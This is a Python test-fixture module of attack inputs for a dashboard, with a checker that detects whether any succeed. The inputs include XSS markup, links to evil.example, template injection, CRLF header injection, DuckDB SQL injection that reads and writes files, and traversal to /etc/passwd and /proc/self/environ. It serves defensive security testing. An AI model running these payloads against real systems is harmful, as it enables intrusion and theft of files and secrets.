"""Texts, addresses and headers that attack the dashboard, and what must never be in an answer."""

import re
from html.parser import HTMLParser
from urllib.parse import quote

SECRET = "canary-of-a-file-beside-the-store"
PRODUCT = "1349033"  # 1337 * 1009: what a template or an expression in a text would have been computed to
EVIL = "evil.example"

MARKUP = (
    "<pwned>",
    '"><pwned pwned=1>',
    "'><pwned>",
    "</title></textarea></pre></style></script><script>pwned()</script>",
    '" autofocus onfocus="pwned()',
    "' onmouseover='pwned()",
    "javascript:pwned()",
    "<svg/onload=pwned()><animate onbegin=pwned()>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;pwned&gt;' onerror=pwned() src=x>",
    "<!--><pwned>-->",
    "]]><pwned>",
    "&lt;pwned&gt;&#60;pwned&#62;",
    f'<a href="https://{EVIL}/">x</a><form action=//{EVIL}><input formaction=//{EVIL}>',
    f'" hx-get="//{EVIL}" hx-trigger="load',
    f"<meta http-equiv=refresh content='0;url=//{EVIL}'><base href=//{EVIL}><link rel=stylesheet href=//{EVIL}>",
    "<iframe srcdoc='<pwned>'></iframe><object data=x><embed src=x>",
    "<div style='background:url(//evil.example)'>",
    "+ADw-pwned+AD4-",
    "<\x00pwned><p\x00wned>",
    "\u2028<pwned>\u2029",
    "\uff1cpwned\uff1e",
)
TEMPLATES = (
    "{{1337*1009}}",
    "{% print(1337*1009) %}",
    "${1337*1009}#{1337*1009}<%= 1337*1009 %>",
    "{{request.app.state.queries}}{{self.__init__.__globals__}}",
    "{run.__class__}{0.__class__}%(run)s",
)
UNSEEN = (
    "\u202egnp.exe\u202c",
    "\u2066\u2067pwned\u2069",
    "in\u200bvi\u200dsi\u2060ble\ufeff",
    "\x00",
    "\x1b[31mred\x07\x08\x7f\x85",
    "line\r\nSet-Cookie: pwned=1\r\n\r\n<pwned>",
    "e" + "\u0301" * 500,
    "\U000e0041\U000e0042\uffff",
)
NUMBERS = ("-1", "0", "9" * 20, "9" * 5_000, "1e308", "NaN", "-inf", "0x10", "٣", "1_000", "true", "null", "[]", "1" + "0" * 400)  # fmt: skip
TEXTS_OF_LENGTH = ("A" * 7_000, "<" * 2_000, "[" * 2_000, "%" * 1_000, "a\u0301" * 500)
RAW = ("%", "%zz", "%00", "%FF%FE", "%ED%A0%80", "%C0%AE%C0%AE/", "%u003cpwned%u003e", "%0d%0aSet-Cookie:%20pwned=1")
STORED = (*MARKUP, *TEMPLATES, *UNSEEN)


def sql(folder):
    """SQL in whose way an answer would hold a file's content, a file would be written, or seconds would go by."""
    secret = f"{folder}/canary"
    return (
        "' OR 1=1 --",
        "%' OR '1'='1",
        f"' UNION ALL SELECT content FROM read_text('{secret}.txt') --",
        f"') UNION SELECT * FROM read_csv('{secret}.txt', header=false) --",
        f"\" FROM read_parquet('{secret}.parquet') --",
        f"read_text('{secret}.txt')",
        f"'; COPY (SELECT 42) TO '{folder}/pwned.csv'; --",
        f"'; ATTACH '{folder}/pwned.db' AS p; CREATE TABLE p.t(x INT); --",
        f"'; EXPORT DATABASE '{folder}/pwned'; --",
        "'; INSTALL httpfs; LOAD httpfs; --",
        "'; SET enable_external_access = true; --",
        "' || getenv('HOME') || '",
        "x' AND (SELECT count(*) FROM range(100000000000)) > 0 --",
        "1; SELECT * FROM duckdb_settings(); --",
        "{beside} ? $1 $folder",
    )


def paths(folder, *bases):
    """Ways out of a folder to the secret, or to files that every machine has."""
    secret = f"{folder}/canary.txt"
    ways = [f"{'../' * up}canary.txt" for up in (1, 2, 3, 5)]
    ways += [f"{'../' * len(base.resolve().parts)}{secret.lstrip('/')}" for base in bases]
    return (
        *ways,
        secret,
        f"/{secret}",
        f"file://{secret}",
        f"....//....//{secret}",
        "..\\..\\canary.txt",
        "/etc/passwd",
        "../../../../../../../../etc/passwd",
        "/proc/self/environ",
        "/dev/zero",
        f"{secret}\x00.json",
        "canary*",
        "[a-z]*",
        "**/*",
        ".",
        "..",
        "~",
        "a/b/c",
    )


def encodings(text):
    """A text as a piece of an address: encoded, with slashes and dots as they are, with dots encoded too, and twice encoded."""
    once = quote(text, safe="", errors="surrogatepass")
    return dict.fromkeys(
        (once, quote(text, safe="/.", errors="surrogatepass"), once.replace(".", "%2e"), quote(once, safe=""))
    )


class Answer(HTMLParser):
    """What the elements and attributes of a page are, and what of them only an attacker can have made."""

    FORBIDDEN = frozenset(
        {"pwned", "img", "iframe", "object", "embed", "math", "mtext", "mglyph", "animate", "style", "base", "template"}
        | {
            "foreignobject",
            "frame",
            "frameset",
            "applet",
            "audio",
            "video",
            "portal",
            "marquee",
            "font",
            "set",
            "image",
        }
    )
    LINKS = frozenset({"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "background", "ping"})  # fmt: skip

    def __init__(self, text, *, elsewhere=""):
        super().__init__()
        self.found, self.links, self.names, self.text = [], [], set(), []
        self._elsewhere, self._is_script, self._is_field = elsewhere, False, False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        told = {name: value or "" for name, value in attrs}
        if tag in self.FORBIDDEN:
            self.found.append(f"<{tag}>")
        if tag == "script" and not told.get("src", "").startswith("/static/"):
            self.found.append(f"script {told}")
        if tag == "link" and not told.get("href", "").startswith("/static/"):
            self.found.append(f"link {told}")
        if (
            tag == "meta" and "http-equiv" in told and not told.get("content", "").isdecimal()
        ):  # asks the same page again
            self.found.append(f"meta {told}")
        self.found += [f"{tag} {name}" for name in told if self._is_attack(name)]
        self.found += [f"{tag} {name}={told[name]}" for name in told if self._leads_out(name, told[name])]
        self._is_script, self._is_field = tag == "script", tag == "textarea"
        self.links += [told[name] for name in ("href", "action", "hx-get") if name in told and tag != "link"]
        if tag in ("input", "select", "textarea") and told.get("name"):
            self.names.add(told["name"])

    def handle_endtag(self, tag):
        self._is_script = self._is_field = False

    def handle_comment(self, data):
        if "pwned" in data:
            self.found.append(f"comment {data[:40]}")

    def handle_data(self, data):
        if not self._is_field:  # what was typed goes back as it was
            self.text.append(data)
        if self._is_script and data.strip():
            self.found.append(f"inline script {data[:40]}")

    def _is_attack(self, name):
        return "pwned" in name or re.match(r"on|hx-on|formaction|srcdoc|style$", name) is not None

    def _leads_out(self, name, value):
        if name in self.LINKS or name in ("hx-get", "hx-post", "hx-put", "hx-delete", "hx-patch"):
            ours = value[:1] in ("", "#", "?") or (value.startswith("/") and not value.startswith(("//", "/\\")))
            return not ours and not (value == self._elsewhere and value)
        return False


def successes(status, headers, body, *, elsewhere=""):
    """What an attack has reached in one answer; nothing where the dashboard holds."""
    found = [f"status {status}"] if status >= 500 else []
    text = body.decode("utf-8", "replace")
    found += [f"{secret!r} in the answer" for secret in (SECRET, PRODUCT, "root:x:", "Traceback", " object at 0x") if secret in text]  # fmt: skip
    names = {name.lower() for name in headers}
    if "default-src 'self'" not in headers.get("content-security-policy", ""):
        found.append("no content security policy")
    if headers.get("x-content-type-options") != "nosniff":
        found.append("the type may be guessed")
    found += [f"header {name}" for name in names & {"set-cookie", "location", "access-control-allow-origin"}]
    if headers.get("content-type", "").startswith("text/html"):
        page = Answer(text, elsewhere=elsewhere)
        found += page.found
        shown = "".join(page.text)
        found += [f"U+{ord(c):04X} as it is" for c in sorted(set(re.findall("[\x00-\x08\u202a-\u202e\u2066-\u2069]", shown)))]  # fmt: skip
    return found
